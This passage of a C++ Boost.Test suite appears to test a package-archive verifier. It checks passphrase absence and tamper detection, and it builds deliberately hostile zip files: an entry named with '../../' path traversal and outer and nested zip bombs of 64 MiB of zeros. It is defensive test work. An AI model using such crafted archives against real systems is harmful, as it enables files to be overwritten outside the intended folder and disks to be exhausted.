  // The passphrase is nowhere on the medium, and the custody record says how it travels.
  BOOST_TEST(ReadFile(w->path).Value().find(pass) == std::string::npos);

  std::string bytes = ReadFile(w->path).Value();
  bytes[bytes.size() / 2] ^= 0x01;
  Put(media, "damaged.zip", bytes);
  auto damaged = VerifyPackageArchive(media / "damaged.zip", pass, content.verifierKey);
  BOOST_TEST((!damaged.Ok() || !damaged->valid));
}

BOOST_AUTO_TEST_CASE(a_hostile_archive_cannot_write_outside_its_folder) {
  const std::string escape = "platedesk-escape-" + RandomHex(6) + ".txt";
  const fs::path zipPath = temp.Path() / "hostile.zip";
  int err = 0;
  zip_t* za = zip_open(zipPath.c_str(), ZIP_CREATE | ZIP_EXCL, &err);
  BOOST_REQUIRE(za != nullptr);
  static const char kText[] = "gotcha";
  zip_source_t* src = zip_source_buffer(za, kText, sizeof kText - 1, 0);
  BOOST_REQUIRE(zip_file_add(za, ("../../" + escape).c_str(), src, 0) >= 0);
  BOOST_REQUIRE(zip_close(za) == 0);
  auto v = VerifyPackageArchive(zipPath, "", std::nullopt);
  BOOST_REQUIRE(v.Ok());
  BOOST_TEST(!v->valid);
  BOOST_TEST(v->firstProblem.rfind("archive:", 0) == 0, v->firstProblem);
  for (const auto& dir : {fs::temp_directory_path(), temp.Path(), temp.Path().parent_path()})
    BOOST_TEST(!fs::exists(dir / escape));
}

BOOST_AUTO_TEST_CASE(a_zip_bomb_is_refused_before_it_fills_the_disk) {
  // 64 MiB of zeros deflates to some 64 KiB: the outer archive, or the inner one inside it.
  static const std::string zeros(64u << 20, '\0');
  auto makeZip = [](const fs::path& path, const std::string& name, const std::string& bytes) {
    int err = 0;
    zip_t* za = zip_open(path.c_str(), ZIP_CREATE | ZIP_EXCL, &err);
    BOOST_REQUIRE(za != nullptr);
    zip_source_t* src = zip_source_buffer(za, bytes.data(), bytes.size(), 0);
    const zip_int64_t idx = zip_file_add(za, name.c_str(), src, 0);
    BOOST_REQUIRE(idx >= 0);
    BOOST_REQUIRE(zip_set_file_compression(za, static_cast<zip_uint64_t>(idx), ZIP_CM_DEFLATE, 9) == 0);
    BOOST_REQUIRE(zip_close(za) == 0);
  };
  const fs::path outerBomb = temp.Path() / "outer-bomb.zip";
  makeZip(outerBomb, "evidence.zip", zeros);
  BOOST_TEST(fs::file_size(outerBomb) < (1u << 20));
  auto v = VerifyPackageArchive(outerBomb, "", std::nullopt);
  BOOST_REQUIRE(v.Ok());
  BOOST_TEST(!v->valid);
  BOOST_TEST(v->firstProblem.find("more than its declared size") != std::string::npos, v->firstProblem);

  const fs::path innerBomb = temp.Path() / "inner-bomb.zip";
  makeZip(innerBomb, "PlateDesk-x/data/zeros.bin", zeros);
  const fs::path nested = temp.Path() / "nested.zip";
  makeZip(nested, "evidence.zip", ReadFile(innerBomb).Value());
  v = VerifyPackageArchive(nested, "", std::nullopt);
  BOOST_REQUIRE(v.Ok());
  BOOST_TEST(!v->valid);
  BOOST_TEST(v->firstProblem.find("the inner archive") != std::string::npos, v->firstProblem);
  BOOST_TEST(v->firstProblem.find("more than its declared size") != std::string::npos, v->firstProblem);
}

BOOST_AUTO_TEST_SUITE_END()
